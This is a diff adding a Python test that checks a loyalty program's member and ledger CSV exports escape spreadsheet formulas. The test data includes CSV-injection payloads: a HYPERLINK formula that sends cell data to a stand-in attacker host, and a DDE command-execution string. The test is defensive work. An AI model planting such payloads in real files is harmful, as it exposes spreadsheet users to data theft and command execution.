@@ -135,6 +135,25 @@ def test_members_csv_has_the_apis_balances(story: Story, cli: Cli, tmp_path: Pat
     assert ann["enrolled_at"].endswith("+00:00")  # RFC 3339 with an offset
 
 
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    api: Api, cli: Cli, tmp_path: Path
+) -> None:
+    program = api.program()
+    sly = api.member(program, external_id="=1+2", name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
+    api.member(program, external_id="@SUM(A1)", phone="+14155550102", name="-2+3")
+    r = api.post(f"/v1/members/{sly}/adjustments", {"points": 5, "reason": "=cmd|' /C calc'!A0"})
+    assert r.status_code == 201
+    api.post(f"/v1/members/{sly}/adjustments", {"points": -5, "reason": "+taken back"})
+    assert cli.run("members", str(tmp_path / "m.csv"), "--program", program).exit_code == 0
+    rows = {r["phone"]: r for r in read(tmp_path / "m.csv")}
+    assert rows[""]["external_id"] == "'=1+2" and rows[""]["name"].startswith("'=HYPERLINK(")
+    assert rows["+14155550102"]["external_id"] == "'@SUM(A1)" and rows["+14155550102"]["name"] == "'-2+3"
+    assert cli.run("ledger", str(tmp_path / "l.csv"), "--program", program).exit_code == 0
+    ledger = read(tmp_path / "l.csv")
+    assert {r["reason"] for r in ledger} == {"'=cmd|' /C calc'!A0", "'+taken back"}
+    assert sorted(int(r["points"]) for r in ledger if r["account"] == "available") == [-5, 5]  # numbers stay
+
+
 def test_ledger_points_sum_to_the_balances(story: Story, cli: Cli, tmp_path: Path) -> None:
     file = tmp_path / "ledger.csv"
     result = cli.run("ledger", str(file), "--program", story.program)
